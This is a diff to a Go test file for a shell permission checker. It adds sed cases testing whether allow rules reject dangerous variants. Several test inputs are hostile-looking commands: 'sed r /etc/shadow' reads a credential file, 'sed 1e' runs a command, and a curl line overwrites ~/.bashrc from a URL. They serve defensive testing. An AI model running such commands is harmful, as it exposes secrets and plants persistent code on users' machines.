@@ -124,6 +124,8 @@ func TestAllowRulesSeeThroughGlobalOptions(t *testing.T) {
 		{"Bash(sed:*)", "sed -n 1p f", true},
 		{"Bash(sed:*)", "sed '1e touch X' f", false},
 		{"Bash(sed:*)", "sed 's/a/b/w out' f", false},
+		{"Bash(sed:*)", "sed -e 's/hello/world/' -e '/error/d' f", true},
+		{"Bash(sed:*)", "sed 'r /etc/shadow' f", false},
 		{"Bash(curl:*)", "curl -o ~/.bashrc http://x", false},
 	} {
 		if got := bashVerdict(t, tt.allow, "", tt.cmd); got != tt.runs {
@@ -258,7 +260,7 @@ func TestRunningAStringIsUndecided(t *testing.T) {
 		"bash script.sh", "python3 script.py", "python3 -m pytest -q", "awk '{print $1}' f", "sed -n 1p f",
 		"trap", "trap -p", "set -euo pipefail; ls", "set -- a b", "shopt -s nullglob; ls", "command -v git",
 		"read -r line < f", `printf '%s\n' "$x"`, "bash -c 'ls -l'", "eval 'ls'", "alias", "xargs -I{} ls {}",
-		"find . -name '*.o' -exec ls {} ;", "export GOOS=linux; ls",
+		"find . -name '*.o' -exec ls {} ;", "export GOOS=linux; ls", "sed 's/hello/world/g' f", "sed -n '/error/p' log",
 	} {
 		if line := parseShell(cmd); line.opaque != "" {
 			t.Errorf("%q is undecided (%s); want decided", cmd, line.opaque)
